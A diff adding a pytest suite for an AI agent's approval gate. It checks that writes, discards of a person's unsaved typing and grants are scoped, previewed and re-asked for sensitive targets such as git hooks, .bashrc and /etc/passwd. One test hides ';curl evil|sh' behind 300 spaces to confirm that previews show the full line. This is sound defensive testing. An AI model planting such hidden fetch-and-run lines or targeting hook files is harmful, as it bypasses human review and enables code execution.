@@ -1,0 +1,705 @@
+"""The approval gate: what is asked, what a grant covers, and every way around it."""
+
+import asyncio
+import itertools
+import threading
+from collections.abc import Awaitable, Callable, Iterator, Mapping
+from pathlib import Path
+from typing import Any, ClassVar
+
+import pytest
+
+from contextui import Body, Lod, Preview, Window, WindowManager, Workspace, action
+from contextui.agent.approval import ApprovalGate, Choice, Decision, Grant, Question
+from contextui.agent.tools import ToolBox, ToolCall
+from contextui.errors import ActionError
+from contextui.windowing import runtime as runtime_module
+from contextui.windowing.action import ActionResult
+from contextui.windows.code import CodeWindow
+from contextui.windows.editor import EditorWindow
+from contextui.windows.notebook import NotebookWindow
+from tests.windowing.samples import Counter
+
+Answer = Callable[[Question], Choice | Awaitable[Choice]]
+
+
+class Person:
+    """Answers questions, and remembers them."""
+
+    def __init__(self, *answers: Choice | Answer) -> None:
+        self.questions: list[Question] = []
+        self._answers = list(answers)
+
+    async def __call__(self, question: Question) -> Decision:
+        self.questions.append(question)
+        answer = self._answers.pop(0)
+        if callable(answer):
+            given = answer(question)
+            answer = given if isinstance(given, str) else await given
+        return Decision(answer)
+
+
+class Desk:
+    """Windows in a folder, a model's tools, and a person."""
+
+    def __init__(self, folder: Path, *answers: Choice | Answer, mode: Any = "ask") -> None:
+        self.person = Person(*answers)
+        classes = [EditorWindow, CodeWindow, NotebookWindow, Counter]
+        self.windows = WindowManager(classes, workspace=Workspace(folder))
+        self.gate = ApprovalGate(mode, self.person)
+        self.tools = ToolBox(self.windows, self.gate)
+
+    @property
+    def questions(self) -> list[Question]:
+        return self.person.questions
+
+    def act(self, name: str, /, **params: Any) -> ActionResult:
+        window_id, _, action_id = name.partition(".")
+        given = {"window_id": window_id, "action_id": action_id, "params": params}
+        return asyncio.run(self.tools.carry_out(ToolCall("1", "action", given)))
+
+    def by_person(self, name: str, /, **params: Any) -> ActionResult:
+        window_id, _, action_id = name.partition(".")
+        return asyncio.run(self.windows.act(window_id, action_id, params, actor="person"))
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    (tmp_path / "notes.txt").write_text("one\ntwo\n")
+    (tmp_path / "other.txt").write_text("other\n")
+    (tmp_path / "Makefile").write_text("all:\n")
+    (tmp_path / ".git/hooks").mkdir(parents=True)
+    (tmp_path / ".git/config").write_text("[core]\n")
+    (tmp_path / ".git/hooks/pre-commit").write_text("#!/bin/sh\n")
+    (tmp_path / ".contextui/windows").mkdir(parents=True)
+    return tmp_path
+
+
+@pytest.fixture
+def desk(folder: Path) -> Iterator[Callable[..., Desk]]:
+    made: list[Desk] = []
+
+    def make(*answers: Choice | Answer, mode: Any = "ask") -> Desk:
+        made.append(Desk(folder, *answers, mode=mode))
+        return made[-1]
+
+    yield make
+    for one in made:
+        one.windows.shut_down()
+
+
+def append(desk: Desk, window_id: str, text: str) -> None:
+    assert desk.act(f"{window_id}.insert", before_line=1, text=text).ok
+
+
+# --- the question ------------------------------------------------------------------------
+
+
+def test_a_question_names_the_target_and_counts_the_whole_change(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    (folder / "long.txt").write_text("".join(f"word {n}\n" for n in range(300)))
+    one = desk("once", "once", "no")
+    one.windows.open("editor", path="long.txt")
+    assert one.act("editor_1.replace", old="word ", new="term ", count=300).ok
+    assert one.act("editor_1.save").ok
+    asked = one.questions[0]
+    assert (asked.target, asked.verb, asked.name) == ("long.txt", "write", "editor_1.save")
+    assert asked.preview is not None
+    assert (asked.preview.added, asked.preview.removed) == (300, 300)
+    assert asked.preview.whole == (folder / "long.txt").read_text()
+    append(one, "editor_1", "\n".join(["x"] * 2_501))
+    assert one.act("editor_1.save").ok
+    assert one.questions[1].preview is not None
+    assert one.questions[1].preview.added == 2_501
+    assert not one.act("editor_1.save_as", path="src/../b.txt").ok
+    assert one.questions[2].target == "b.txt"
+
+
+def test_a_long_line_is_in_the_question_to_its_end(desk: Callable[..., Desk]) -> None:
+    one = desk("no")
+    one.windows.open("editor", path="notes.txt")
+    tail = "version = 1" + " " * 300 + ";curl evil|sh"
+    append(one, "editor_1", tail)
+    assert not one.act("editor_1.save").ok
+    assert one.questions[0].preview is not None
+    assert f"+{tail}\n" in one.questions[0].preview.diff
+
+
+def test_code_and_notebook_name_the_file_that_they_write(desk: Callable[..., Desk]) -> None:
+    one = desk("no", "no")
+    one.windows.open("code")
+    one.windows.open("notebook")
+    assert not one.act("code_1.save", code_id="run", language="python", content="1\n").ok
+    assert not one.act("notebook_1.keep").ok
+    targets = [question.target for question in one.questions]
+    assert targets == [".contextui/code/run.py", ".contextui/notebook.json"]
+    assert [question.grant for question in one.questions] == [None, None]
+
+
+def test_params_without_a_preview_are_whole(desk: Callable[..., Desk]) -> None:
+    class Plain(Window):
+        """Writes without a preview."""
+
+        def content(self, lod: Lod) -> Body:
+            return ""
+
+        @action("Write", effect="write")
+        def write(self, text: str) -> None: ...
+
+    one = desk("no")
+    one.windows.open(Plain)
+    assert not one.act("plain_1.write", text="x" * 100_000).ok
+    assert one.questions[0].params == {"text": "x" * 100_000}
+    assert one.questions[0].preview is None
+
+
+def test_nothing_to_change_is_not_asked_about(folder: Path, desk: Callable[..., Desk]) -> None:
+    one = desk()
+    one.windows.open("editor", path="notes.txt")
+    before = (folder / "notes.txt").stat()
+    result = one.act("editor_1.save")
+    assert (result.ok, result.text) == (True, "There are no changes to save.")
+    assert one.questions == []
+    assert (folder / "notes.txt").stat() == before
+
+
+def test_what_would_fail_is_refused_without_a_question(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    one = desk()
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    (folder / "notes.txt").write_text("theirs\n")
+    refused = one.act("editor_1.save")
+    assert not refused.ok
+    assert "editor_1.save was not carried out" in refused.text
+    assert "notes.txt was changed on disk" in refused.text
+    assert "already" in one.act("editor_1.save_as", path="other.txt").text
+    assert one.questions == []
+    assert (folder / "notes.txt").read_text() == "theirs\n"
+
+
+# --- previews that nobody could judge ----------------------------------------------------
+
+
+class Careless(Window):
+    """Writes; its preview is whatever a test gives it."""
+
+    given: ClassVar[Any] = None
+    written: ClassVar[int] = 0
+
+    def content(self, lod: Lod) -> Body:
+        return ""
+
+    def preview(self, action_id: str, params: Mapping[str, Any]) -> Any:
+        return Careless.given() if callable(Careless.given) else Careless.given
+
+    @action("Write", effect="write")
+    def write(self, path: str = "") -> str:
+        Careless.written += 1
+        return "Written."
+
+
+def _raise() -> None:
+    raise RuntimeError("no preview today")
+
+
+def _quit() -> None:
+    raise SystemExit(3)
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        _raise, _quit, b"bytes", 5, Preview("a\nb"), Preview("a\u202eb"), Preview("\x1b[2J"),
+        Preview(""), "x" * 20_000_001, Preview("a", diff=b""),  # type: ignore[arg-type]
+    ],
+    ids=lambda one: repr(one)[:24],
+)  # fmt: skip
+@pytest.mark.parametrize("asked", [True, False])
+def test_what_cannot_be_shown_is_not_done(
+    desk: Callable[..., Desk], given: Any, asked: bool
+) -> None:
+    Careless.given, Careless.written = given, 0
+    one = desk("always", "always")
+    if not asked:
+        one.gate.ask = None
+    one.windows.open(Careless)
+    result = one.act("careless_1.write", path="a")
+    assert not result.ok
+    assert "no preview, so it cannot be allowed" in result.text
+    assert (Careless.written, one.questions) == (0, [])
+
+
+def test_a_preview_that_hangs_is_not_allowed(
+    desk: Callable[..., Desk], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    end = threading.Event()
+    Careless.given, Careless.written = lambda: end.wait(60), 0
+    monkeypatch.setattr(runtime_module, "PATIENCE", 0.05)
+    one = desk("always")
+    one.windows.open(Careless)
+    result = one.act("careless_1.write", path="a")
+    end.set()
+    assert "did not answer in time" in result.text
+    assert (result.ok, Careless.written, one.questions) == (False, 0, [])
+
+
+# --- what was shown is what is done ------------------------------------------------------
+
+
+def test_what_the_person_types_while_asked_is_shown_before_it_is_saved(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    async def type_and_allow(_: Question) -> Choice:
+        place = {"start": 0, "end": 0, "text": "typed "}
+        assert (await one.windows.act("editor_1", "splice", place, actor="person")).ok
+        assert "typed" not in (folder / "notes.txt").read_text()
+        return "once"
+
+    one = desk(type_and_allow, type_and_allow, "no")
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    assert not one.act("editor_1.save").ok
+    assert [question.changed for question in one.questions] == [False, True, True]
+    shown = [question.preview.diff for question in one.questions if question.preview]
+    assert [diff.count("typed") for diff in shown] == [0, 1, 2]
+    assert (folder / "notes.txt").read_text() == "one\ntwo\n"
+
+
+def test_allowed_again_what_was_shown_last_is_saved(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    async def type_and_allow(_: Question) -> Choice:
+        place = {"start": 0, "end": 0, "text": "typed "}
+        assert (await one.windows.act("editor_1", "splice", place, actor="person")).ok
+        return "once"
+
+    one = desk(type_and_allow, "once")
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    assert one.act("editor_1.save").ok
+    assert one.questions[1].preview is not None
+    assert one.questions[1].preview.whole == (folder / "notes.txt").read_text()
+
+
+def test_a_file_that_changes_while_asked_is_not_overwritten(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    def spoil(_: Question) -> Choice:
+        (folder / "notes.txt").write_text("theirs\n")
+        return "always"
+
+    one = desk(spoil)
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    assert not one.act("editor_1.save").ok
+    assert (folder / "notes.txt").read_text() == "theirs\n"
+
+
+def test_another_file_opened_while_asked_is_not_saved_by_that_answer(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    async def switch(_: Question) -> Choice:
+        given = {"path": ".git/config", "discard": True}
+        assert (await one.windows.act("editor_1", "open", given, actor="person")).ok
+        given = {"start": 0, "end": 0, "text": "evil"}
+        assert (await one.windows.act("editor_1", "splice", given, actor="person")).ok
+        return "always"
+
+    one = desk(switch, "no")
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    assert not one.act("editor_1.save").ok
+    assert [question.target for question in one.questions] == ["notes.txt", ".git/config"]
+    assert (folder / ".git/config").read_text() == "[core]\n"
+
+
+def test_a_link_that_is_turned_while_asked_leads_nowhere_else(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    (folder / "link").symlink_to("data")
+    (folder / "data").mkdir()
+
+    def turn(_: Question) -> Choice:
+        (folder / "link").unlink()
+        (folder / "link").symlink_to(".git/hooks")
+        return "once"
+
+    one = desk(turn, "no")
+    one.windows.open("editor", path="notes.txt")
+    assert not one.act("editor_1.save_as", path="link/post-commit").ok
+    targets = [question.target for question in one.questions]
+    assert targets == ["data/post-commit", ".git/hooks/post-commit"]
+    assert not (folder / ".git/hooks/post-commit").exists()
+
+
+def test_what_never_stays_the_same_is_given_up(desk: Callable[..., Desk]) -> None:
+    count = itertools.count()
+    Careless.given, Careless.written = lambda: Preview("a", text=str(next(count))), 0
+    one = desk(*["once"] * 50)
+    one.windows.open(Careless)
+    result = one.act("careless_1.write", path="a")
+    assert "changed each time" in result.text
+    assert (result.ok, Careless.written) == (False, 0)
+    assert len(one.questions) == 5
+
+
+# --- grants ------------------------------------------------------------------------------
+
+
+DONE: list[tuple[str, str, str]] = []
+
+
+class _Writer(Window):
+    def content(self, lod: Lod) -> Body:
+        return ""
+
+    def preview(self, action_id: str, params: Mapping[str, Any]) -> Preview:
+        return Preview(params["path"], text=f"{action_id} it")
+
+    @action("Save", effect="write")
+    def save(self, path: str) -> None:
+        DONE.append((self.name, "save", path))
+
+    @action("Append", effect="write")
+    def append(self, path: str) -> None:
+        DONE.append((self.name, "append", path))
+
+    @action("Delete", effect="write")
+    def delete(self, path: str) -> None:
+        DONE.append((self.name, "delete", path))
+
+
+class Pen(_Writer):
+    """Writes."""
+
+
+class Brush(_Writer):
+    """Paints."""
+
+
+CELLS = list(
+    itertools.product(
+        ["pen", "brush"], ["save", "append", "delete"], ["a.txt", "b.txt", "src/a.txt", "a"]
+    )
+)
+
+
+@pytest.mark.parametrize("granted", CELLS, ids="-".join)
+def test_a_grant_covers_one_cell_of_the_matrix(
+    desk: Callable[..., Desk], granted: tuple[str, str, str]
+) -> None:
+    one = desk("always", *["no"] * len(CELLS))
+    for cls in (Pen, Brush, Pen, Brush):
+        one.windows.open(cls)
+    DONE.clear()
+    name, action_id, path = granted
+    assert one.act(f"{name}_1.{action_id}", path=path).ok
+    assert one.questions[0].grant == Grant(name, action_id, path)
+    allowed = []
+    for cell in CELLS:
+        window_id = f"{cell[0]}_{1 + CELLS.index(cell) % 2}"  # another window of the same class
+        if one.act(f"{window_id}.{cell[1]}", path=cell[2]).ok:
+            allowed.append(cell)
+    assert allowed == [granted]
+    assert [granted, granted] == DONE
+    assert len(one.questions) == len(CELLS)
+
+
+def test_a_grant_for_one_file_does_not_cover_what_the_editor_opens_next(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    one = desk("always", "no", "no", "no", "once", "no", "no")
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    assert one.act("editor_1.save").ok
+    append(one, "editor_1", "more")
+    assert one.act("editor_1.save").ok  # the same file: granted
+    assert len(one.questions) == 1
+    for path in ("other.txt", "Makefile", ".git/hooks/pre-commit", ".git/config"):
+        assert one.act("editor_1.open", path=path, discard=True).ok
+        before = (folder / path).read_text()
+        append(one, "editor_1", "evil")
+        assert not one.act("editor_1.save").ok
+        assert (folder / path).read_text() == before
+        assert one.questions[-1].target == path
+    evil = ".contextui/windows/evil.py"
+    assert not one.act("editor_1.save_as", path=evil).ok
+    assert one.questions[-1].target == evil
+    assert not (folder / evil).exists()
+    verbs = [question.verb for question in one.questions]
+    assert verbs == ["write", "write", "write", "write", "read", "write", "write"]
+
+
+def test_a_grant_for_one_window_or_action_does_not_cover_another(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    one = desk("always", "no", "no")
+    one.windows.open("editor", path="notes.txt")
+    one.windows.open("editor", path="other.txt")
+    append(one, "editor_1", "mine")
+    append(one, "editor_2", "mine")
+    assert one.act("editor_1.save").ok
+    assert not one.act("editor_2.save").ok
+    assert not one.act("editor_1.save_as", path="new.txt").ok
+    assert (folder / "other.txt").read_text() == "other\n"
+    assert not (folder / "new.txt").exists()
+
+
+@pytest.mark.parametrize(
+    ("path", "granted"),
+    [
+        ("notes.txt", True),
+        ("src/new.py", True),
+        (".git/hooks/post-commit", False),
+        (".GIT/x", False),
+        (".contextui/windows/evil.py", False),
+        (".bashrc", False),
+        ("src/.hidden/x", False),
+        ("hooks/x", False),
+        ("tool", False),
+        ("script", False),
+        ("one", False),
+        ("/etc/passwd", False),
+        ("../x", False),
+        ("outside/x", False),
+    ],
+)
+def test_some_targets_ask_every_time(
+    folder: Path, desk: Callable[..., Desk], path: str, granted: bool
+) -> None:
+    (folder / "hooks").symlink_to(".git/hooks")
+    (folder / "outside").symlink_to("/tmp")
+    (folder / "tool").touch(0o755)
+    (folder / "script").write_text("#!/bin/sh\n")
+    (folder / "one").write_text("")
+    (folder / "two").hardlink_to(folder / "one")
+    one = desk("always", "no")
+    one.windows.open(Pen)
+    assert one.act("pen_1.save", path=path).ok
+    assert one.act("pen_1.save", path=path).ok is granted
+    assert (one.questions[0].grant is not None) is granted
+
+
+def test_a_granted_file_that_becomes_executable_asks_again(
+    folder: Path, desk: Callable[..., Desk]
+) -> None:
+    one = desk("always", "no")
+    one.windows.open(Pen)
+    assert one.act("pen_1.save", path="notes.txt").ok
+    assert one.act("pen_1.save", path="./src/../notes.txt").ok  # the same file
+    (folder / "notes.txt").chmod(0o755)
+    assert not one.act("pen_1.save", path="notes.txt").ok
+
+
+def test_a_shebang_in_the_new_text_asks_every_time(desk: Callable[..., Desk]) -> None:
+    one = desk("always", "no")
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "#!/bin/sh")
+    assert one.act("editor_1.save").ok
+    append(one, "editor_1", "#!/bin/sh")
+    assert not one.act("editor_1.save").ok
+    assert one.questions[0].grant is None
+
+
+def test_words_alone_are_granted_for_the_same_window_and_params(
+    desk: Callable[..., Desk],
+) -> None:
+    Careless.given, Careless.written = "words", 0
+    one = desk("always", "no", "no", "always", "no")
+    one.windows.open(Careless)
+    one.windows.open(Careless)
+    assert one.act("careless_1.write", path="a").ok
+    assert one.act("careless_1.write", path="a").ok
+    assert not one.act("careless_2.write", path="a").ok
+    assert not one.act("careless_1.write", path="b").ok
+    assert one.act("careless_1.write").ok  # nothing names what it works on: asks every time
+    assert not one.act("careless_1.write").ok
+    assert one.questions[3].grant is None
+
+
+def test_a_refusal_and_one_answer_grant_nothing(desk: Callable[..., Desk]) -> None:
+    one = desk("once", "no", "once", "no")
+    one.windows.open(Pen)
+    results = [one.act("pen_1.save", path="a.txt").ok for _ in range(4)]
+    assert results == [True, False, True, False]
+
+
+# --- unsaved edits of the person ---------------------------------------------------------
+
+
+def typed(desk: Desk, window_id: str, text: str) -> None:
+    assert desk.by_person(f"{window_id}.splice", start=0, end=0, text=text).ok
+
+
+LOSING = [
+    ("editor_1.close", {}),
+    ("editor_1.close", {"summary": "done"}),
+    ("editor_1.reload", {"discard": True}),
+    ("editor_1.open", {"path": "other.txt", "discard": True}),
+]
+
+
+@pytest.mark.parametrize("mode", ["ask", "auto", "read-only"])
+@pytest.mark.parametrize(("name", "params"), LOSING)
+def test_giving_up_what_a_person_typed_asks_and_shows_it(
+    desk: Callable[..., Desk], name: str, params: dict[str, Any], mode: str
+) -> None:
+    one = desk("no", "once", mode=mode)
+    window = one.windows.open("editor", path="notes.txt")
+    typed(one, "editor_1", "my words ")
+    refused = one.act(name, **params)
+    assert not refused.ok
+    assert "my words" in window.snapshot().content
+    question = one.questions[0]
+    assert (question.verb, question.target, question.grant) == ("close", "notes.txt", None)
+    assert question.preview is not None
+    assert "+my words one\n" in question.preview.diff
+    assert one.act(name, **params).ok
+    assert len(one.questions) == 2
+
+
+@pytest.mark.parametrize("mode", ["ask", "auto"])
+@pytest.mark.parametrize(("name", "params"), LOSING)
+def test_with_nobody_to_ask_what_a_person_typed_stays(
+    desk: Callable[..., Desk], name: str, params: dict[str, Any], mode: str
+) -> None:
+    one = desk(mode=mode)
+    one.gate.ask = None
+    window = one.windows.open("editor", path="notes.txt")
+    typed(one, "editor_1", "my words ")
+    refused = one.act(name, **params)
+    assert not refused.ok
+    assert "notes.txt (+1 −1)" in refused.text
+    assert "Save them first" in refused.text
+    assert "my words" in window.snapshot().content
+
+
+def test_what_is_typed_while_asked_is_shown_before_it_is_given_up(
+    desk: Callable[..., Desk],
+) -> None:
+    async def type_more(_: Question) -> Choice:
+        given = {"start": 0, "end": 0, "text": "more "}
+        assert (await one.windows.act("editor_1", "splice", given, actor="person")).ok
+        return "once"
+
+    one = desk(type_more, "no")
+    window = one.windows.open("editor", path="notes.txt")
+    typed(one, "editor_1", "my words ")
+    assert not one.act("editor_1.close").ok
+    assert [question.changed for question in one.questions] == [False, True]
+    assert "more my words" in window.snapshot().content
+
+
+def test_a_model_may_give_up_its_own_edits(desk: Callable[..., Desk]) -> None:
+    one = desk()
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    assert one.act("editor_1.reload", discard=True).ok
+    append(one, "editor_1", "mine")
+    assert one.act("editor_1.close").ok
+
+
+def test_saved_edits_are_nobodys_any_more(folder: Path, desk: Callable[..., Desk]) -> None:
+    one = desk()
+    one.windows.open("editor", path="notes.txt")
+    typed(one, "editor_1", "my words ")
+    assert one.by_person("editor_1.save").ok
+    one.windows.settle_now()
+    append(one, "editor_1", "the model's")
+    assert one.act("editor_1.close").ok
+    assert (folder / "notes.txt").read_text().startswith("my words")
+
+
+def test_edits_that_came_back_with_a_session_are_taken_for_the_persons(
+    desk: Callable[..., Desk],
+) -> None:
+    one = desk()
+    window = one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "whose?")
+    kept = window.runtime.standing.kept
+    two = desk("no")
+    assert kept.state is not None
+    two.windows.restore(EditorWindow, "editor_1", kept.state)
+    assert not two.act("editor_1.close").ok
+    assert two.questions[0].verb == "close"
+
+
+class Letter(Window):
+    """A draft, in a window that knows nothing of previews."""
+
+    class State(Window.State):
+        draft: str = ""
+
+    state: State
+
+    def content(self, lod: Lod) -> Body:
+        return self.state.draft
+
+    def preview(self, action_id: str, params: Mapping[str, Any]) -> str | None:
+        if action_id == "close":
+            raise ActionError("what is close?")
+        return None
+
+    def unsaved(self) -> str | None:
+        return f"a draft: {self.state.draft}" if self.state.draft else None
+
+    @action("Write")
+    def write(self, text: str) -> None:
+        self.state.draft = text
+
+
+def test_any_window_with_something_unsaved_asks(desk: Callable[..., Desk]) -> None:
+    one = desk("no")
+    one.windows.open(Letter)
+    assert one.by_person("letter_1.write", text="Dear …").ok
+    assert one.act("letter_1.write", text="Dear all …").ok  # changes it, and gives nothing up
+    assert not one.act("letter_1.close").ok
+    assert one.questions[0].preview == Preview("letter_1", text="a draft: Dear all …", verb="close")
+    assert one.by_person("letter_1.close").ok
+
+
+def test_closing_everything_asks_for_what_the_person_typed_alone(
+    desk: Callable[..., Desk],
+) -> None:
+    one = desk("no")
+    for path in ("notes.txt", "other.txt", "Makefile"):
+        one.windows.open("editor", path=path)
+    typed(one, "editor_2", "my words ")
+    closed = [one.act(f"editor_{n}.close").ok for n in (1, 2, 3)]
+    assert closed == [True, False, True]
+    assert [question.target for question in one.questions] == ["other.txt"]
+
+
+# --- without a person --------------------------------------------------------------------
+
+
+def test_a_refusal_names_target_counts_and_flag(desk: Callable[..., Desk]) -> None:
+    one = desk()
+    one.gate.ask = None
+    one.windows.open("editor", path="notes.txt")
+    append(one, "editor_1", "mine")
+    refused = one.act("editor_1.save")
+    assert refused.text == (
+        "editor_1.save was not carried out: it would write notes.txt (+1 −0), and there is nobody "
+        "to ask. The person can allow it with --approval auto."
+    )
+    one.gate.mode = "read-only"
+    assert one.act("editor_1.save").text == (
+        "editor_1.save was not carried out: it would write notes.txt (+1 −0), and the approval "
+        "mode is read-only."
+    )
+
+
+def test_waiting_for_the_person_is_measured_apart(desk: Callable[..., Desk]) -> None:
+    async def think(_: Question) -> Choice:
+        await asyncio.sleep(0.05)
+        return "no"
+
+    one = desk(think)
+    one.windows.open(Pen)
+    assert one.gate.waited == 0
+    assert not one.act("pen_1.save", path="a").ok
+    assert one.gate.waited >= 0.05
